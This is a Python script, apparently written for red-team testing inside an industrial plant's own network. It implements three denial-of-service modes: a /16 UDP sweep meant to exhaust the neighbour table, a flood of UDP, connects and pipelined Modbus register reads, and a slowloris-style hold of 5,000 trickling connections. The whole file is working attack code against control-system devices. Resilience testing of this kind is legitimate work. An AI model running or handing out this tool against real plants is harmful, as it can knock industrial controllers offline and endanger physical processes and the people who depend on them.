#!/usr/bin/env python3
"""What a hostile team runs on a device of its own plant, inside that plant's network: hostile.py sweep|flood|hold SECONDS ADDRESS...

sweep: every address of a /16 again and again, made on-link so that each costs a neighbour entry of the whole machine.
flood: datagrams, connections and pipelined Modbus reads to each ADDRESS:PORT as fast as one process can.
hold:  5,000 connections spread over the ADDRESS:PORTs, each saying one byte a second."""
import contextlib
import errno
import resource
import select
import socket
import subprocess
import sys
import time

READ = b"\0\1\0\0\0\6\1\3\0\0\0\x0a"  # ten holding registers
HELD = 5000


def targets(words):
    return [(a.split(":")[0], int(a.split(":")[1])) for a in words]


def begin(where):
    s = socket.socket()
    s.setblocking(False)
    with contextlib.suppress(BlockingIOError):
        s.connect(where)
    return s


def sweep(end, _):
    subprocess.run(["ip", "addr", "add", "10.20.255.1/16", "dev", "eth0"], check=True)
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.setblocking(False)
    sent = 0
    while time.monotonic() < end:
        for n in range(1, 65535):
            sent += 1
            with contextlib.suppress(OSError):  # few get through: new destinations are limited
                u.sendto(b"?", (f"10.20.{n >> 8}.{n & 255}", 9))
            if n % 256 == 0 and time.monotonic() >= end:
                break
    return sent


def flood(end, where):
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.setblocking(False)
    pipes, sent = {}, 0
    while time.monotonic() < end:
        for w in where:
            with contextlib.suppress(OSError):
                u.sendto(bytes(1400), w)
            with contextlib.suppress(OSError):
                begin(w).close()
            try:
                pipes.setdefault(w, begin(w)).send(READ * 100)
                pipes[w].recv(1 << 20)
            except BlockingIOError:
                pass
            except OSError:
                pipes.pop(w).close()
            sent += 1
    return sent


def hold(end, where):
    resource.setrlimit(resource.RLIMIT_NOFILE, (HELD + 100, HELD + 100))
    held, at = {}, 0
    while time.monotonic() < end:
        second = time.monotonic() + 1
        while len(held) < HELD and time.monotonic() < second:
            with contextlib.suppress(OSError):
                s = begin(where[at % len(where)])
                held[s.fileno()] = s
            at += 1
        for fd, s in list(held.items()):
            try:
                s.send(b"\0")
            except OSError as e:
                if e.errno not in (errno.EAGAIN, errno.ENOTCONN):
                    del held[fd]
                    s.close()
        select.select([], [], [], max(0.0, second - time.monotonic()))
    return at


if __name__ == "__main__":
    print({"sweep": sweep, "flood": flood, "hold": hold}[sys.argv[1]](time.monotonic() + float(sys.argv[2]), targets(sys.argv[3:])), flush=True)
